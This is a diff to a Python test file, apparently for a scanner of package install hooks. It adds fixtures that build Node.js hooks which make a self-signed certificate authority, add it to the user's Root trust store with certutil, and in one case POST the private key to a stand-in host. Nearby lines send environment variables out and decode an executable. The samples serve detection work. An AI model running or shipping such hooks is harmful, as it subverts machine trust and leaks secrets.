@@ -48,6 +48,21 @@ def authority(then: str = "") -> Files:
     return hooked("node a.js", {"a.js": text + then})
 
 
+def made_authority(making: str, trusting: str, then: str = "") -> Files:
+    """Make a hook that makes an authority with a key of its own, and has the machine trust it by a helper of its own."""
+    helper = "const { execFileSync } = require('child_process');\nmodule.exports = (file, given, how) => execFileSync(file, given, how);\n"
+    make = f"require('./run')('openssl', ['req', '-x509', '-keyout', 'own.key', '-out', 'own.crt'], {making});\n"
+    trust = f"require('./make');\nconst run = require('./run');\nrun('certutil', ['-user', '-addstore', 'Root', 'own.crt'], {trusting});\n"
+    return hooked("node a.js", {"a.js": trust + then, "make.js": make, "run.js": helper})
+
+
+QUIET, OPEN = "{ stdio: 'ignore' }", "{ stdio: 'inherit' }"
+SENDS_KEY = (
+    "fetch('https://collect.example.invalid/k', { method: 'POST', body: require('fs').readFileSync('own.key') });\n"
+)
+SHIPPED = "require('./run')('openssl', ['x509', '-in', 'own.crt'], { stdio: 'ignore' });\n"
+
+
 def child(options: str, then: str = "") -> Files:
     """Make a hook that lets go of a program of its own, which asks the network."""
     text = (
@@ -68,6 +83,7 @@ ANY_PART = "const part = require(`./part-${process.env.PART}`);\n"
     manifest_by_table=manifest("for (const [name, text] of [['lint', 'tool lint']]) told.scripts[name] = text;"),
     quarantine=quarantine(),
     authority=authority(),
+    authority_made=made_authority(QUIET, OPEN),
     child=child(SILENT),
     posting=hooked("node a.js", {"a.js": ANY_PART + POSTS}),
     handing=hooked("node a.js", {"a.js": f"require('child_process').execSync('ls', {{ env: process.env }});\n{POSTS}"}),
@@ -89,6 +105,9 @@ def test_it_is_told_and_not_blocked(seen: Seen) -> None:
     quarantine_fetched=quarantine("curl -fsSLo a.zip https://files.example.invalid/a.zip\n"),
     authority_fetched=authority(FETCHES),
     authority_and_loader=authority("execFileSync('certutil', ['-f', '-decode', 'a.txt', 'a.exe']);\n"),
+    authority_in_silence=made_authority(QUIET, QUIET),
+    authority_whose_key_is_sent=made_authority(QUIET, OPEN, SENDS_KEY),
+    authority_not_made=made_authority(QUIET, OPEN) | {"make.js": SHIPPED},
     child_made=child(SILENT, "require('fs').chmodSync('b', 0o755);\n"),
     posting_hidden=hooked("node a.js", {"a.js": f"const say = globalThis[words.pop()];\nsay[words.pop()]();\n{POSTS}"}),
     handing_over=hooked("node a.js", {"a.js": POSTS.replace("'installed'", "JSON.stringify(process.env)")}),
